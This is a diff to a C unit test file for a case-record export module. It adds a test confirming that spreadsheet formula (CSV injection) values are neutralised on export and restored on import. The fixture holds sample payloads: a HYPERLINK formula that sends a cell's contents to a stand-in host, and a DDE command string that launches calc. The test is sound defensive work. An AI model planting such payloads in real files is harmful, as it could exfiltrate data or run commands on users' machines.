@@ -1,6 +1,7 @@
 /*
  * test_export.c -- cb_export: identifying details only when asked (and then recorded as an event), never in
- * CTDC, and import -> export -> import -> export giving the same file for HTCDS, CTDC and JSON lines.
+ * CTDC, import -> export -> import -> export giving the same file for HTCDS, CTDC and JSON lines, and
+ * spreadsheet formulas neutralised on the way out and restored on the way in.
  */
 #include <sqlite3.h>
 
@@ -119,6 +120,49 @@ static void test_round_trip_jsonl(void **state)
 	round_trip("jsonl", true);
 }
 
+/* Cells a spreadsheet would run (OWASP CSV injection) leave in an export with identifiers behind a ' and in
+ * quotes; a plain negative number does not; and the import takes the ' off again, so the values come back
+ * exactly and a second export is the same file. */
+static void test_formulas_neutralised(void **state)
+{
+	(void)state;
+	static const char text[] = "x_site,x_registered_on,prs_FirstName,prs_SecondName,x_narrative,x_birth_year\n"
+				   "NORTH-1,2020-05-01,\"=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"Open\"\")\","
+				   "\"+1+cmd|' /C calc'!A0\",@SUM(1+1),1990\n";
+	struct cb_store *s = iot_store("formula.db"), *t = iot_store("formula-again.db");
+	struct cb_import_result res;
+	struct cb_err err = {0};
+	const char *in = cbt_path("formula.csv"), *out = cbt_path("formula.export");
+	cbt_write(in, text);
+	assert_int_equal(cb_import_file(s, in, NULL, &res, &err), CB_OK);
+	assert_int_equal(res.imported, 1);
+	char *first = iot_export(s, "htcds", true);
+	assert_non_null(strstr(first, ",\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"Open\"\")\","));
+	assert_non_null(strstr(first, ",\"'+1+cmd|' /C calc'!A0\","));
+	assert_non_null(strstr(first, ",\"'@SUM(1+1)\""));
+	assert_null(strstr(first, ",=HYPERLINK"));
+	assert_null(strstr(first, ",+1+cmd"));
+	assert_null(strstr(first, ",@SUM"));
+
+	struct cb_case c;
+	int rc;
+	assert_int_equal(iot_read(&cb_format_htcds, first, &c, 1, &rc, &err, NULL), 1);
+	assert_int_equal(rc, CB_OK);
+	assert_string_equal(c.first_name, "=HYPERLINK(\"http://x.example/\"&A1,\"Open\")");
+	assert_string_equal(c.last_name, "+1+cmd|' /C calc'!A0");
+	assert_string_equal(c.narrative, "@SUM(1+1)");
+	cb_case_clear(&c);
+	cbt_write(out, first);
+	assert_int_equal(cb_import_file(t, out, NULL, &res, &err), CB_OK);
+	assert_int_equal(res.imported, 1);
+	char *second = iot_export(t, "htcds", true);
+	assert_string_equal(first, second);
+	free(first);
+	free(second);
+	cb_store_free(&s);
+	cb_store_free(&t);
+}
+
 static void test_unknown_and_import_only_formats(void **state)
 {
 	(void)state;
@@ -146,6 +190,7 @@ int main(void)
 		cmocka_unit_test(test_round_trip_ctdc),
 		cmocka_unit_test(test_round_trip_jsonl),
 		cmocka_unit_test(test_unknown_and_import_only_formats),
+		cmocka_unit_test(test_formulas_neutralised),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
